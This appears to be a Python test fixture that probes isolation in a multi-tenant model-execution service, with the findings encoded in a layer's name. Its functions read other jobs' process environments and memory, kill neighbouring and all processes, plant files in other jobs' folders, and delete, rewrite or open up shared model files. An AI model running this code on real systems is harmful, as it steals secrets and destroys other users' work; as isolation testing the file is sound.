"""A factory whose code attacks the jobs beside it, and what is kept; the name of its layer tells what it could do."""

# ruff: noqa: PTH207, PTH208, SIM115 - paths are attacked as they are

import glob
import hashlib
import json
import os
import signal
import time
from collections.abc import Callable, Iterable
from pathlib import Path

from torch import nn

SECONDS = 6
PATHS_TOLD, CHARACTERS_TOLD = 2, 60


def told(layer: str) -> dict[str, object]:
    """Return what a layer's name tells: the neighbours' processes met, the job's user, what was gained, and how often.

    Args:
        layer: The name.
    """
    return dict(json.loads(bytes.fromhex(layer)))


def tried(attack: Callable[[], object], gain: str, seen: set[str]) -> None:
    """Note a gain, unless a wall is met."""
    try:
        attack()
    except OSError:
        return
    seen.add(gain)


def opened(paths: Iterable[str], seen: set[str]) -> None:
    """Note which files can be opened, for reading or for writing."""
    for path in paths:
        for mode in ("rb", "r+b"):
            tried(lambda path=path, mode=mode: Path(path).open(mode).read(1), f"{mode} {path}", seen)


def neighbours() -> list[int]:
    """Return the processes of other jobs."""
    own, found = {os.getpid(), os.getppid()}, []
    for each in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = Path(each).read_bytes().split(b"\0")
        except OSError:
            continue
        pid = int(each.split("/")[2])
        if b"worker.execution" in words and pid not in own:
            found.append(pid)
    return found


def attack_processes(seen: set[str]) -> int:
    """Look into the neighbours and end them; returns how many there were."""
    found = neighbours()
    for pid in found:
        opened((f"/proc/{pid}/{name}" for name in ("environ", "mem", "maps")), seen)
        for number in (signal.SIGSTOP, signal.SIGKILL):
            tried(lambda pid=pid, number=number: os.kill(pid, number), f"signal {number}", seen)
    tried(lambda: os.kill(-1, signal.SIGKILL), "all ended", set())
    return len(found)


def attack_folders(artifacts: str, known: list[str], seen: set[str]) -> None:
    """List and write where other jobs' files lie, their names known."""
    parts = ("", "1", "2", "1.cached", "1.cached/factors", ".waiting", ".waiting/1", ".waiting/2")
    places = [f"{artifacts}/{job}/{part}".rstrip("/") for job in known for part in parts]
    for place in places:
        tried(lambda place=place: Path(place, "planted").write_text("x"), f"written in {place}", seen)
    cache = f"{artifacts}/.factor-cache"
    tenants = f"{cache}/{hashlib.sha256(b'local').hexdigest()[:32]}"
    for place in (*places, artifacts, cache, tenants, f"{artifacts}/objects"):
        tried(lambda place=place: os.listdir(place), f"listed {place}", seen)
    objects = glob.glob(f"{artifacts}/objects/**", recursive=True) + glob.glob(f"{artifacts}/.objects/*")
    opened(objects, seen)


def attack_models(models: str, seen: set[str]) -> None:
    """Change what every tenant's jobs read."""
    for place in (f"{models}/builtin", f"{models}/hub"):
        for path in (f"{place}/new", f"{models}/new", f"{models}/pace/new", *glob.glob(f"{place}/*")):
            tried(lambda path=path: Path(path).open("ab"), f"appended to {path}", seen)
            tried(lambda path=path: Path(path).unlink(), f"removed {path}", seen)
            tried(lambda path=path: Path(path).chmod(0o777), f"opened {path}", seen)
        tried(lambda place=place: Path(place).rename(f"{place}-moved"), f"moved {place}", seen)
        tried(lambda place=place: Path(place).chmod(0o777), f"opened {place}", seen)


def model(artifacts: str, models: str, known: list[str]) -> nn.Module:
    """Attack for some seconds, then return a layer.

    Args:
        artifacts: The folder of all jobs.
        models: The store of models.
        known: Ids of other jobs.
    """
    seen: set[str] = set()
    others, until = 0, time.monotonic() + SECONDS
    while time.monotonic() < until:
        others += attack_processes(seen)
        attack_folders(artifacts, known, seen)
        attack_models(models, seen)
        time.sleep(0.2)
    gained = [each[:CHARACTERS_TOLD] for each in sorted(seen)[:PATHS_TOLD]]
    said = {"others": others, "user": os.getuid(), "seen": gained, "gains": len(seen)}
    net = nn.Sequential()
    net.add_module(json.dumps(said).encode().hex(), nn.Linear(12, 3))
    return net
